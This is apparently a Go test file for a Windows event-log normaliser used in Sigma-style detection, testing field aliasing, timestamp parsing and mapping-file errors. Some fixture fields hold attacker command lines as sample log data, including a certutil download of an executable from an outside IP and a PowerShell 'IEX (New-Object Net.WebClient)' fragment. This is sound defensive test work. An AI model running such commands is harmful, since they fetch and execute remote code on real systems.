package event

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

// decode parses a JSON object the way ingest does: numbers as json.Number.
func decode(t testing.TB, s string) map[string]any {
	t.Helper()
	dec := json.NewDecoder(strings.NewReader(s))
	dec.UseNumber()
	var m map[string]any
	if err := dec.Decode(&m); err != nil {
		t.Fatalf("decode sample: %v", err)
	}
	return m
}

func TestApplyDefault(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name     string
		file     string         // in testdata/
		want     map[string]any // fields that must hold these values after Apply
		wantTime time.Time
	}{
		{
			name: "evtx_dump sysmon",
			file: "evtx_sysmon.json",
			want: map[string]any{
				"EventID":       json.Number("1"),
				"Channel":       "Microsoft-Windows-Sysmon/Operational",
				"Computer":      "ws01.corp.example",
				"Provider_Name": "Microsoft-Windows-Sysmon",
				"EventRecordID": json.Number("4711"),
				"UserID":        "S-1-5-18",
				"Image":         `C:\Windows\System32\certutil.exe`,
				"CommandLine":   "certutil -urlcache -f http://198.51.100.7/a.exe a.exe",
				"ProcessId":     json.Number("6120"),
			},
			wantTime: time.Date(2025, 3, 14, 9, 26, 53, 92051000, time.UTC),
		},
		{
			name: "evtx_dump WMI UserData one level deeper",
			file: "evtx_wmi_userdata.json",
			want: map[string]any{
				"EventID":         json.Number("5858"),
				"Provider_Name":   "Microsoft-Windows-WMI-Activity",
				"ClientProcessId": json.Number("25920"),
				"ResultCode":      "0x80041003",
				"User":            `ws02\bob`,
			},
			wantTime: time.Date(2025, 7, 2, 2, 5, 27, 438557000, time.UTC),
		},
		{
			name: "evtx_dump EventID with qualifiers",
			file: "evtx_qualifiers.json",
			want: map[string]any{
				"EventID":       json.Number("7045"),
				"Provider_Name": "Service Control Manager",
				"ServiceName":   "BTOBTO",
			},
			wantTime: time.Date(2025, 1, 5, 10, 0, 0, 0, time.UTC),
		},
		{
			name: "winlogbeat ECS",
			file: "winlogbeat_ecs.json",
			want: map[string]any{
				"EventID":        json.Number("4688"),
				"Channel":        "Security",
				"Computer":       "ws03.corp.example",
				"Provider_Name":  "Microsoft-Windows-Security-Auditing",
				"EventRecordID":  json.Number("90210"),
				"NewProcessName": `C:\Windows\System32\whoami.exe`,
				"CommandLine":    "whoami /all",
			},
			wantTime: time.Date(2025, 2, 1, 12, 30, 45, 123000000, time.UTC),
		},
		{
			name: "winlogbeat before ECS",
			file: "winlogbeat_legacy.json",
			want: map[string]any{
				"EventID":        json.Number("4624"),
				"Channel":        "Security",
				"Computer":       "ws04",
				"Provider_Name":  "Microsoft-Windows-Security-Auditing",
				"TargetUserName": "bob",
				"LogonType":      "3",
				"EventRecordID":  "77",
				"record_number":  "77",
			},
			wantTime: time.Date(2018, 6, 1, 8, 0, 0, 0, time.UTC),
		},
		{
			name: "nxlog flat keeps channel case and prefers @timestamp",
			file: "nxlog_flat.json",
			want: map[string]any{
				"EventID":       json.Number("4688"),
				"Channel":       "security",
				"Computer":      "WORKSTATION5.theshire.local",
				"Provider_Name": "Microsoft-Windows-Security-Auditing",
				"EventRecordID": json.Number("2120060"),
				"Keywords":      json.Number("-9223372036854775808"),
			},
			wantTime: time.Date(2020, 9, 20, 16, 16, 9, 362000000, time.UTC),
		},
		{
			name: "nxlog newer with TimeCreated",
			file: "nxlog_timecreated.json",
			want: map[string]any{
				"EventID":   json.Number("4689"),
				"Computer":  "WORKSTATION5",
				"ProcessId": "0x12d8",
			},
			wantTime: time.Date(2020, 10, 18, 7, 50, 6, 220000000, time.UTC),
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			data, err := os.ReadFile(filepath.Join("testdata", tc.file))
			if err != nil {
				t.Fatal(err)
			}
			e := &Event{Fields: decode(t, string(data))}
			DefaultMapping().Apply(e)
			got := map[string]any{}
			for k := range tc.want {
				if v, ok := e.Fields[k]; ok {
					got[k] = v
				}
			}
			want := map[string]any{}
			for k, v := range tc.want {
				if v != nil {
					want[k] = v
				}
			}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("fields after Apply (-want +got):\n%s", diff)
			}
			if !e.Time.Equal(tc.wantTime) {
				t.Errorf("Time = %v, want %v", e.Time, tc.wantTime)
			}
		})
	}
}

func TestApplyNeverOverwrites(t *testing.T) {
	t.Parallel()
	in := `{"EventID": "top", "Image": "top-image", "Channel": null,
	 "Event": {"System": {"EventID": 1, "Channel": "Sysmon"}, "EventData": {"Image": "nested"}}}`
	e := &Event{Fields: decode(t, in), Time: time.Unix(42, 0)}
	DefaultMapping().Apply(e)
	want := map[string]any{"EventID": "top", "Image": "top-image", "Channel": nil}
	for k, w := range want {
		if diff := cmp.Diff(w, e.Fields[k]); diff != "" {
			t.Errorf("field %s (-want +got):\n%s", k, diff)
		}
	}
	if !e.Time.Equal(time.Unix(42, 0)) {
		t.Errorf("Time = %v, want it kept at %v", e.Time, time.Unix(42, 0))
	}
	// The nested originals stay where they were.
	if v, _ := e.Lookup(NewPath("Event.EventData.Image")); v != "nested" {
		t.Errorf("Event.EventData.Image = %v, want nested", v)
	}
}

func TestApplyFlattenedKeys(t *testing.T) {
	t.Parallel()
	in := `{"winlog.event_id": 4104, "winlog.channel": "Microsoft-Windows-PowerShell/Operational",
	 "winlog.event_data.ScriptBlockText": "IEX (New-Object Net.WebClient)", "winlog.event_data.": 1}`
	e := &Event{Fields: decode(t, in)}
	DefaultMapping().Apply(e)
	want := map[string]any{
		"EventID":         json.Number("4104"),
		"Channel":         "Microsoft-Windows-PowerShell/Operational",
		"ScriptBlockText": "IEX (New-Object Net.WebClient)",
	}
	for k, w := range want {
		if diff := cmp.Diff(w, e.Fields[k]); diff != "" {
			t.Errorf("field %s (-want +got):\n%s", k, diff)
		}
	}
	if _, ok := e.Fields[""]; ok {
		t.Error("an empty key was hoisted")
	}
}

func TestApplyNilFields(t *testing.T) {
	t.Parallel()
	e := &Event{}
	DefaultMapping().Apply(e)
	if e.Fields != nil || !e.Time.IsZero() {
		t.Errorf("Apply on empty event changed it: %+v", e)
	}
}

func TestApplySkipsNullSource(t *testing.T) {
	t.Parallel()
	m, err := ParseMapping([]byte("aliases: {Host: [a, b]}"), "m.yml")
	if err != nil {
		t.Fatal(err)
	}
	e := &Event{Fields: map[string]any{"a": nil, "b": "second"}}
	m.Apply(e)
	if got := e.Fields["Host"]; got != "second" {
		t.Errorf("Host = %v, want second (null source skipped)", got)
	}
}

func TestTimeLayouts(t *testing.T) {
	t.Parallel()
	utc := func(y int, mo time.Month, d, h, mi, s, ns int) time.Time {
		return time.Date(y, mo, d, h, mi, s, ns, time.UTC)
	}
	tests := []struct {
		name string
		v    any
		want time.Time
	}{
		{"rfc3339 zulu", "2025-01-02T03:04:05Z", utc(2025, 1, 2, 3, 4, 5, 0)},
		{"rfc3339 offset", "2025-01-02T05:04:05+02:00", utc(2025, 1, 2, 3, 4, 5, 0)},
		{"rfc3339 micros", "2025-01-02T03:04:05.123456Z", utc(2025, 1, 2, 3, 4, 5, 123456000)},
		{"iso no zone", "2025-01-02T03:04:05.5", utc(2025, 1, 2, 3, 4, 5, 500000000)},
		{"space millis", "2025-01-02 03:04:05.000", utc(2025, 1, 2, 3, 4, 5, 0)},
		{"space seconds", "2025-01-02 03:04:05", utc(2025, 1, 2, 3, 4, 5, 0)},
		{"space with zone", "2025-01-02 04:04:05+01:00", utc(2025, 1, 2, 3, 4, 5, 0)},
		{"apache", "17/May/2015:10:05:03 +0000", utc(2015, 5, 17, 10, 5, 3, 0)},
		{"epoch seconds", json.Number("1735787045"), utc(2025, 1, 2, 3, 4, 5, 0)},
		{"epoch fraction", json.Number("1735787045.25"), utc(2025, 1, 2, 3, 4, 5, 250000000)},
		{"epoch millis", json.Number("1735787045123"), utc(2025, 1, 2, 3, 4, 5, 123000000)},
		{"epoch float64", float64(1735787045), utc(2025, 1, 2, 3, 4, 5, 0)},
		{"garbage", "yesterday", time.Time{}},
		{"empty", "", time.Time{}},
		{"bool", true, time.Time{}},
		{"huge number", json.Number("1e300"), time.Time{}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			e := &Event{Fields: map[string]any{"timestamp": tc.v}}
			DefaultMapping().Apply(e)
			if !e.Time.Equal(tc.want) {
				t.Errorf("Time from %v = %v, want %v", tc.v, e.Time, tc.want)
			}
		})
	}
}

func TestTimeFieldOrder(t *testing.T) {
	t.Parallel()
	m, err := ParseMapping([]byte(`
time:
  fields: [first, second]
  layouts: [unix_ms]
`), "m.yml")
	if err != nil {
		t.Fatal(err)
	}
	e := &Event{Fields: map[string]any{"first": "not a time", "second": json.Number("1000")}}
	m.Apply(e)
	if want := time.UnixMilli(1000).UTC(); !e.Time.Equal(want) {
		t.Errorf("Time = %v, want %v (unparsable first field skipped)", e.Time, want)
	}
}

func TestParseMappingErrors(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		in   string
		want string // the error message starts with this
	}{
		{"alias not a list", "aliases:\n  EventID: {a: b}\n",
			"mapping.yml: aliases.EventID: expected a list of paths"},
		{"alias item not scalar", "aliases:\n  EventID: [[a]]\n",
			"mapping.yml: aliases.EventID: expected a list of paths"},
		{"alias empty path", "aliases:\n  EventID: ['']\n",
			"mapping.yml: aliases.EventID: empty path"},
		{"aliases not a map", "aliases: [a]\n", "mapping.yml: aliases: expected a mapping"},
		{"duplicate alias", "aliases:\n  A: [x]\n  A: [y]\n",
			"mapping.yml: aliases.A: duplicate field name"},
		{"unknown top key", "alias: {}\n", "mapping.yml: alias: unknown key"},
		{"top not a map", "- a\n", "mapping.yml: (top level): expected a mapping"},
		{"hoist not a list", "hoist: {a: b}\n", "mapping.yml: hoist: expected a list of paths"},
		{"time not a map", "time: [a]\n", "mapping.yml: time: expected a mapping"},
		{"time unknown key", "time:\n  zones: [a]\n", "mapping.yml: time.zones: unknown key"},
		{"time fields not a list", "time:\n  fields: {a: 1}\n",
			"mapping.yml: time.fields: expected a list of paths"},
		{"bad yaml", "aliases: [\n", "mapping.yml: yaml:"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			_, err := ParseMapping([]byte(tc.in), "mapping.yml")
			if err == nil {
				t.Fatalf("ParseMapping(%q) = nil error, want %q", tc.in, tc.want)
			}
			if !strings.HasPrefix(err.Error(), tc.want) {
				t.Errorf("ParseMapping(%q) error = %q, want prefix %q", tc.in, err, tc.want)
			}
		})
	}
}

func TestParseMappingEmpty(t *testing.T) {
	t.Parallel()
	for _, in := range []string{"", "# nothing\n", "aliases:\nhoist:\ntime:\n"} {
		m, err := ParseMapping([]byte(in), "m.yml")
		if err != nil {
			t.Errorf("ParseMapping(%q) error = %v", in, err)
			continue
		}
		if len(m.Aliases())+len(m.Hoists())+len(m.TimeFields()) != 0 {
			t.Errorf("ParseMapping(%q) is not empty", in)
		}
	}
}

func TestLoadMapping(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	path := filepath.Join(dir, "mapping.yml")
	if err := os.WriteFile(path, []byte("aliases:\n  Host: hostname\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	m, err := LoadMapping(path)
	if err != nil {
		t.Fatalf("LoadMapping: %v", err)
	}
	if diff := cmp.Diff(map[string][]string{"Host": {"hostname"}}, m.Aliases()); diff != "" {
		t.Errorf("aliases (-want +got):\n%s", diff)
	}
	if _, err := LoadMapping(filepath.Join(dir, "missing.yml")); err == nil {
		t.Error("LoadMapping of a missing file = nil error")
	}

	bad := filepath.Join(dir, "bad.yml")
	if err := os.WriteFile(bad, []byte("aliases:\n  Host: {x: y}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	_, err = LoadMapping(bad)
	if err == nil || !strings.HasPrefix(err.Error(), "bad.yml: aliases.Host:") {
		t.Errorf("LoadMapping(bad) error = %v, want it to name bad.yml and aliases.Host", err)
	}
}

func TestMerge(t *testing.T) {
	t.Parallel()
	base, err := ParseMapping([]byte(`
aliases:
  EventID: [a.id]
  Channel: [a.ch]
  Gone: [a.gone]
hoist: [a.data]
time:
  fields: [a.time]
  layouts: [rfc3339]
`), "base.yml")
	if err != nil {
		t.Fatal(err)
	}
	user, err := ParseMapping([]byte(`
aliases:
  EventID: [b.id, a.id]
  Host: [b.host]
  Gone: []
hoist: [b.data, a.data]
time:
  fields: [b.time, a.time]
  layouts: [unix, rfc3339]
`), "user.yml")
	if err != nil {
		t.Fatal(err)
	}
	m := base.Merge(user)
	type view struct {
		Aliases           map[string][]string
		Hoists, Fields, L []string
	}
	got := view{m.Aliases(), m.Hoists(), m.TimeFields(), m.TimeLayouts()}
	want := view{
		Aliases: map[string][]string{
			"EventID": {"b.id", "a.id"}, "Channel": {"a.ch"}, "Host": {"b.host"},
		},
		Hoists: []string{"a.data", "b.data"},
		Fields: []string{"b.time", "a.time"},
		L:      []string{"rfc3339", "unix"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("merged mapping (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]string{"a.id"}, base.Aliases()["EventID"]); diff != "" {
		t.Errorf("Merge modified its receiver (-want +got):\n%s", diff)
	}
	if base.Merge(nil) != base {
		t.Error("Merge(nil) did not return the receiver")
	}
}

func TestMergeOverDefault(t *testing.T) {
	t.Parallel()
	user, err := ParseMapping([]byte("aliases:\n  Channel: [log.channel]\n"), "user.yml")
	if err != nil {
		t.Fatal(err)
	}
	m := DefaultMapping().Merge(user)
	e := &Event{Fields: decode(t, `{"log": {"channel": "Custom"}, "winlog": {"channel": "Security"},
	 "Event": {"System": {"EventID": 4625}}}`)}
	m.Apply(e)
	if e.Fields["Channel"] != "Custom" || e.Fields["EventID"] != json.Number("4625") {
		t.Errorf("Channel, EventID = %v, %v; want Custom, 4625",
			e.Fields["Channel"], e.Fields["EventID"])
	}
}

func TestDefaultMappingLayouts(t *testing.T) {
	t.Parallel()
	// The default must list its layouts so that a user file can rely on them.
	want := []string{"rfc3339", "2006-01-02 15:04:05.000", "2006-01-02 15:04:05", "unix", "unix_ms"}
	for _, l := range want {
		found := false
		for _, have := range DefaultMapping().TimeLayouts() {
			found = found || have == l
		}
		if !found {
			t.Errorf("default layouts lack %q", l)
		}
	}
}

func FuzzParseMapping(f *testing.F) {
	// Small seeds: the whole built-in file (3 KB) stalls the fuzzer's
	// minimisation of new inputs for minutes.
	f.Add([]byte("aliases:\n  EventID:\n    - Event.System.EventID\n    - winlog.event_id\n" +
		"hoist:\n  - Event.EventData\n  - Event.UserData.*\n" +
		"time:\n  fields: [\"@timestamp\"]\n  layouts: [rfc3339, unix_ms]\n"))
	f.Add([]byte("aliases:\n  EventID: [a, b]\nhoist: [x.*]\n" +
		"time: {fields: [t], layouts: [unix]}\n"))
	f.Add([]byte("aliases: {A: b}\n"))
	f.Add([]byte("- a\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		m, err := ParseMapping(data, "fuzz.yml")
		if err != nil {
			if !strings.HasPrefix(err.Error(), "fuzz.yml: ") {
				t.Errorf("error %q does not name the file", err)
			}
			return
		}
		// Whatever parsed must apply without panicking.
		e := &Event{Fields: map[string]any{
			"a": "x", "t": json.Number("12"), "x": map[string]any{"y": map[string]any{"z": 1}},
		}}
		m.Apply(e)
		DefaultMapping().Merge(m).Apply(e)
		var buf bytes.Buffer
		_ = json.NewEncoder(&buf).Encode(e.Fields)
	})
}

// TestApplyStripsSpaces checks that hoisted names lose their spaces, as the
// Sigma specification names fields ("Source Name" → SourceName).
func TestApplyStripsSpaces(t *testing.T) {
	t.Parallel()
	in := `{"Event": {"System": {"EventID": 1116},
	 "EventData": {"Source Name": "Real-Time Protection", "Threat Name": "X"}}}`
	e := &Event{Fields: decode(t, in)}
	DefaultMapping().Apply(e)
	for k, w := range map[string]any{"SourceName": "Real-Time Protection", "ThreatName": "X"} {
		if diff := cmp.Diff(w, e.Fields[k]); diff != "" {
			t.Errorf("field %s (-want +got):\n%s", k, diff)
		}
	}
}
